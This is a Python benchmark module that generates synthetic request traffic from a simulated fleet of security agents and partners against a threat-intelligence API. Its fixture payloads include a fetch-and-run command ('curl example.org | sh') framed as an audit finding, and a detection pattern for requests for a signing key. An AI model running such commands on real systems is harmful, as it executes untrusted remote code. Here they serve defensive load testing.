"""What a fleet of Guards asks and sends: the load of `bench.fleet`, as its members would.

Every agent has a key and an address of its own and begins a cycle every five minutes, at an instant of its own: so
100,000 agents make 333 cycles a second. A cycle is one new connection, as Node's agent lets go of one that was idle
for five seconds, and these requests one after the other, none of them conditional or compressed (stock Guards send
neither `If-None-Match` nor `Accept-Encoding`):

=============  =====  ======================================================================================
version        share  requests of a cycle
=============  =====  ======================================================================================
1.4.5            10%  the four lists; in every twelfth cycle the whole rules, and a vote for each of five skills.
                      (A real one asks for the lists too only hourly: here it asks more often.)
1.4.6 - 1.5.5     5%  the whole rules, the four lists, its votes in one request, a device heartbeat
1.6               5%  the four lists, its votes in one request, a device heartbeat
1.7 - 1.9        80%  the four lists, the skill lists `since` the cycle before; a quarter also sends its votes
=============  =====  ======================================================================================

The four lists are both feeds and both skill lists. Votes are for five of 400 skills, some of them well known.
A daemon that starts (each one once a day) asks for the whole rules and the IP feed too. Besides, at random instants,
on a connection each:

- threat batches: sealed ones of 4 KB by 15% of the agents in five minutes, plain ones of five events by 5%;
- scan events by 5%, skill threats by 1%, SkillWatcher's drafts by 0.2%;
- 2% have a manager: a heartbeat every 30 s, and an event in five minutes;
- every two minutes three agents propose the same new rule, which is promoted and published during the run;
- 1,000 partners poll `live` every minute with the ETag they have, and so fetch each publication once.
"""

import base64
import heapq
import json
import random
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, datetime, timedelta
from functools import partial
from urllib.parse import quote

from bench.enrol import Enrolled
from bench.open_loop import Step, Visit
from tests.example_rules import proposal, rule_text

CYCLE_SECONDS = 300.0
PARTNER_SECONDS = 60.0
RULE_SECONDS = 120.0
STARTS_A_DAY = 1
SKILLS = 400
VOTES = 5
EPOCH = "1970-01-01T00:00:00.000Z"

RULES, IPS, DOMAINS = "rules, whole", "ip-blocklist", "domain-blocklist"
WHITE, BLACK, VOTE = "skill-whitelist", "skill-blacklist", "skill-whitelist, votes"
LIVE_UNCHANGED, LIVE_WHOLE = "live, with ETag", "live, without"

_SEALED = json.dumps(
    {
        "sealed": {
            "v": 1,
            "alg": "ECDH-ES+A256GCM",
            "kid": "ingest-2026-07",
            "jwe": base64.urlsafe_b64encode(random.Random(1).randbytes(3000)).decode(),
        }
    }
)


class Mix:
    """The visits of one run, in order of time; the same ones for the same `seed`."""

    def __init__(
        self, agents: Sequence[Enrolled], partners: Sequence[Enrolled], port: int, seed: int = 4
    ) -> None:
        self._agents, self._partners = agents, partners
        self._host = f"127.0.0.1:{port}".encode()
        self._random = random.Random(seed)
        self._etags: dict[int, bytes] = {}
        self._rules = 0

    def visits(self, seconds: float) -> Iterator[Visit]:
        """Everything that is due in so many seconds."""
        per_agent = len(self._agents) / CYCLE_SECONDS
        managed = 0.02 * per_agent
        streams = [
            self._periodic(len(self._agents), CYCLE_SECONDS, self._cycle),
            self._periodic(len(self._partners), PARTNER_SECONDS, self._partner),
            self._at_random(
                0.15 * per_agent, partial(self._upload, "threats, sealed", "/api/threats", _sealed)
            ),
            self._at_random(
                0.05 * per_agent, partial(self._upload, "threats, plain", "/api/threats", _threats)
            ),
            self._at_random(
                0.05 * per_agent, partial(self._upload, "scan-events", "/api/scan-events", _scan)
            ),
            self._at_random(
                0.01 * per_agent, partial(self._upload, "skill-threats", "/api/skill-threats", _skill_threat)
            ),
            self._at_random(
                0.002 * per_agent, partial(self._upload, "atr-proposals", "/api/atr-proposals", _draft)
            ),
            self._at_random(managed * CYCLE_SECONDS / 30, self._heartbeat),
            self._at_random(managed, self._event),
            self._proposals(),
        ]
        for visit in heapq.merge(*streams, key=lambda visit: visit.due):
            if visit.due >= seconds:
                return
            yield visit

    def _periodic(
        self, members: int, period: float, visit: Callable[[float, int, int], Visit]
    ) -> Iterator[Visit]:
        """Each member at its own phase of the period, again and again: `visit(due, member, round)`."""
        phases = sorted((self._random.uniform(0, period), member) for member in range(members))
        turn = 0
        while phases:
            for phase, member in phases:
                yield visit(turn * period + phase, member, turn)
            turn += 1

    def _at_random(self, per_second: float, visit: Callable[[float, int], Visit]) -> Iterator[Visit]:
        """A Poisson process; each time another agent."""
        due = 0.0
        while True:
            due += self._random.expovariate(per_second)
            yield visit(due, self._random.randrange(len(self._agents)))

    def _cycle(self, due: float, agent: int, turn: int) -> Visit:
        version = agent % 20  # 0-1: 1.4.5; 2: 1.5; 3: 1.6; the others: 1.9
        start = self._random.random() < STARTS_A_DAY * CYCLE_SECONDS / 86_400
        hourly = version < 2 and (agent // 20 + turn) % 12 == 0
        since = ""
        if version > 3 and not start:
            before = datetime.now(UTC) - timedelta(seconds=CYCLE_SECONDS)
            since = f"?since={quote(before.isoformat(timespec='milliseconds').replace('+00:00', 'Z'))}"
        rules = self._get(agent, RULES, f"/api/atr-rules?since={EPOCH}")
        steps = [self._get(agent, IPS, "/api/feeds/ip-blocklist")]
        if start or version == 2 or hourly:
            steps.insert(0, rules)
        if start:
            steps.append(steps[-1])
        steps.append(self._get(agent, DOMAINS, "/api/feeds/domain-blocklist"))
        steps.append(self._get(agent, WHITE, f"/api/skill-whitelist{since}"))
        if hourly:
            steps += [
                self._post(agent, VOTE, "/api/skill-whitelist", json.dumps(json.dumps(vote)))
                for vote in _votes(agent)
            ]
        elif version in (2, 3) or (version > 3 and agent // 20 % 4 == 0):
            batch = json.dumps(json.dumps({"skills": _votes(agent)}))
            steps.append(self._post(agent, VOTE, "/api/skill-whitelist", batch))
        steps.append(self._get(agent, BLACK, f"/api/skill-blacklist{since}"))
        if version in (2, 3):
            steps.append(
                self._post(agent, "devices/heartbeat", "/api/devices/heartbeat", json.dumps(_device(agent)))
            )
        return Visit(due, _address(agent), steps)

    def _partner(self, due: float, partner: int, _turn: int) -> Visit:
        etag = self._etags.get(partner)
        token = self._partners[partner].token
        more = b"Accept-Encoding: gzip\r\n" + (b"If-None-Match: " + etag + b"\r\n" if etag else b"")
        request = self._request(b"GET", "/api/atr-rules/live", token, more)

        def noted(head: bytes) -> None:
            at = head.lower().index(b"\r\netag: ") + 8
            self._etags[partner] = head[at : head.index(b"\r", at)]

        kind = LIVE_UNCHANGED if etag else LIVE_WHOLE
        return Visit(due, _address(500_000 + partner), [Step(kind, request, noted)])

    def _upload(
        self, kind: str, path: str, body: "Callable[[random.Random], str]", due: float, agent: int
    ) -> Visit:
        return Visit(due, _address(agent), [self._post(agent, kind, path, body(self._random))])

    def _heartbeat(self, due: float, agent: int) -> Visit:
        managed = agent % (len(self._agents) // 50)
        body = json.dumps(
            {
                "eventsProcessed": self._random.randrange(10_000),
                "threatsDetected": self._random.randrange(10),
                "actionsExecuted": 0,
                "mode": "protection",
                "uptime": int(due * 1000),
                "memoryUsageMB": 61.2,
            }
        )
        path = f"/api/agents/{self._agents[managed].key_id}/heartbeat"
        return Visit(due, _address(managed), [self._post(managed, "agents/heartbeat", path, body)])

    def _event(self, due: float, agent: int) -> Visit:
        managed = agent % (len(self._agents) // 50)
        path = f"/api/agents/{self._agents[managed].key_id}/events"
        return Visit(
            due, _address(managed), [self._post(managed, "agents/events", path, _raw_event(self._random))]
        )

    def _proposals(self) -> Iterator[Visit]:
        """One new rule at a time, confirmed by the third agent a few seconds after the first."""
        turn = 0
        while True:
            mark = f"{self._random.getrandbits(64):016x}"
            text = rule_text(f"ATR-FLEET-{mark}", pattern=f"send (me )?the registry signing key|{mark}")
            body = json.dumps(proposal(f"fleet-{mark}", text))
            for number in range(3):
                agent = self._random.randrange(len(self._agents))
                step = self._post(agent, "atr-proposals", "/api/atr-proposals", body)
                yield Visit(20 + turn * RULE_SECONDS + 3 * number, _address(agent), [step])
            turn += 1

    def _get(self, agent: int, kind: str, path: str) -> Step:
        return Step(kind, self._request(b"GET", path, self._agents[agent].token))

    def _post(self, agent: int, kind: str, path: str, body: str) -> Step:
        content = body.encode()
        more = (
            b"X-Panguard-Client-Id: 0d9f6c1e-0000-4000-8000-%012d\r\n" % agent
            + b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(content)
        )
        return Step(f"POST {kind}", self._request(b"POST", path, self._agents[agent].token, more) + content)

    def _request(self, method: bytes, path: str, token: bytes, more: bytes = b"") -> bytes:
        return b"".join(
            (
                method, b" ", path.encode(), b" HTTP/1.1\r\nHost: ", self._host,
                b"\r\nConnection: keep-alive\r\nAuthorization: Bearer ", token, b"\r\n", more, b"\r\n",
            )
        )  # fmt: skip


def _address(member: int) -> str:
    """A loopback address for each, as each has an address in a real fleet; Linux answers on all of 127/8."""
    return f"127.{16 + (member >> 16)}.{member >> 8 & 255}.{member & 255}"


def _votes(agent: int) -> list[dict[str, str]]:
    """Five different skills, the same ones each time; one agent in fifty has a fingerprint of its own."""
    chosen = random.Random(agent)
    numbers = {int(SKILLS * chosen.random() ** 3) for _ in range(VOTES)}
    mark = f"{agent:016x}" if agent % 50 == 0 else "f" * 16
    return [{"skillName": f"skill-{number}", "fingerprintHash": f"{number:048x}{mark}"} for number in numbers]


def _device(agent: int) -> dict[str, object]:
    device = f"0d9f6c1e-0000-4000-8000-{agent:012}"
    return {
        "deviceId": device,
        "orgId": device,
        "hostname": f"host-{agent}",
        "osType": "Linux",
        "agentCount": agent % 4,
        "guardVersion": "guard",
    }


def _sealed(_chance: random.Random) -> str:
    return _SEALED


def _threats(chance: random.Random) -> str:
    now = datetime.now(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return json.dumps(
        {
            "events": [
                {
                    "attackSourceIP": f"{chance.randrange(1, 223)}.{chance.randrange(256)}.0.0",
                    "attackType": chance.choice(["prompt_injection", "tool_poisoning", "exfiltration"]),
                    "mitreTechnique": chance.choice(["T1059", "T1041", "unknown"]),
                    "sigmaRuleMatched": f"ATR-2026-{chance.randrange(1, 500):05}",
                    "timestamp": now,
                    "region": "DE",
                }
                for _ in range(5)
            ]
        }
    )


def _scan(chance: random.Random) -> str:
    found = chance.randrange(3)
    return json.dumps(
        {
            "source": "cli-user",
            "skillsScanned": chance.randrange(1, 30),
            "findingsCount": found,
            "confirmedMalicious": 0,
            "highlySuspicious": found,
            "cleanCount": 5,
            "deviceHash": f"0d9f6c1e-0000-4000-8000-{chance.randrange(100_000):012}",
        }
    )


def _skill_threat(chance: random.Random) -> str:
    number = chance.randrange(200)
    return json.dumps(
        {
            "skillHash": f"{number:016x}",
            "skillName": f"risky-{number}",
            "riskScore": chance.randrange(40, 100),
            "riskLevel": chance.choice(["MEDIUM", "HIGH", "CRITICAL"]),
            "findingSummaries": [
                {"id": "F1", "category": "exfiltration", "severity": "high", "title": "Reads ~/.ssh"}
            ],
        }
    )


def _draft(chance: random.Random) -> str:
    content = {
        "type": "skill-audit-finding",
        "skillName": f"risky-{chance.randrange(200)}",
        "riskLevel": "HIGH",
        "payload": "curl example.org | sh",
        "findings": [{"id": "F1", "title": "Runs what it fetches", "severity": "high"}],
        "needsLLMDraft": True,
    }
    return json.dumps(
        {
            "patternHash": f"{chance.getrandbits(64):016x}",
            "ruleContent": json.dumps(content),
            "llmProvider": "skill-audit",
            "llmModel": "needs-llm-drafting",
            "selfReviewVerdict": '{"approved":true}',
        }
    )


def _raw_event(chance: random.Random) -> str:
    return json.dumps(
        {
            "event": {
                "id": f"{chance.getrandbits(64):016x}",
                "source": "network",
                "category": "command_and_control",
                "severity": "high",
                "timestamp": datetime.now(UTC).isoformat(),
                "description": "connection to a listed address",
                "host": "build-7",
                "metadata": {"sourceIP": f"45.{chance.randrange(8)}.7.{chance.randrange(1, 60)}"},
            },
            "verdict": {"conclusion": "malicious", "confidence": 91, "action": "block_ip"},
        }
    )
